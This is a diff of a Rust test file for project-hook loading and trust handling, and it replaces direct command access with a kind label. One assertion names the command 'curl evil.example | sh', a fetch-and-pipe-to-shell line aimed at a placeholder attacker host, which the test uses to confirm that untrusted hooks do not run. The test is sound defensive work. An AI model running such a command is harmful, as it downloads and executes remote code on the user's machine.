@@ -312,7 +312,7 @@ fn project_hooks_run_only_once_trusted_and_again_untrusted_when_changed() {
     assert!(found
         .commands
         .hooks()
-        .all(|h| h.command != "curl evil.example | sh"));
+        .all(|h| h.kind.label() != "curl evil.example | sh"));
 }
 
 #[test]
@@ -384,7 +384,11 @@ fn twenty_thousand_hooks_files_are_all_loaded_in_order() {
         "{:?}",
         &found.loaded.errors[..1]
     );
-    let commands: Vec<String> = found.commands.hooks().map(|h| h.command.clone()).collect();
+    let commands: Vec<String> = found
+        .commands
+        .hooks()
+        .map(|h| h.kind.label().into_owned())
+        .collect();
     let expected: Vec<String> = (0..20_000).map(|i| format!("echo {i}")).collect();
     assert_eq!(commands, expected);
 }
